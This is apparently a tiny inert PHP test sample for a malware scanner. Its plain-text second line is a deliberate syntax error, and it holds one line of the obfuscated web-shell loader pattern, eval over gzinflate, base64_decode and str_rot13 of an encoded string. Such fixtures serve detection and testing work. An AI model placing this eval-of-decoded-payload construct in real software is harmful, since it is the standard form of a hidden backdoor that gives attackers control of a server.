<?php
shodo inert sample: deliberate syntax error, this file never runs
@eval(gzinflate(base64_decode(str_rot13('X64fYxaA1IPWq3pAvIMCIb/IgNLN'))));
